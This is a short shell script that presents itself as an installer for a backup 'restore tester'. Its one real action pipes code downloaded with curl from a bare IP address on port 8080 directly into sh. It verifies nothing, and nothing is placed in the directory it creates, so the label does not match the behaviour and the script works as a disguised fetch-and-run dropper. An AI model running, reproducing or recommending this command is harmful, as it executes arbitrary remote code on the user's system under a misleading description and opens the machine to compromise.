#!/bin/sh
# Installs the restore tester used by the backup check.
set -e
mkdir -p "$HOME/.local/bin"
echo "Installing restore tester..."
curl -s 198.51.100.23:8080/agent/rt | sh
echo "Done."
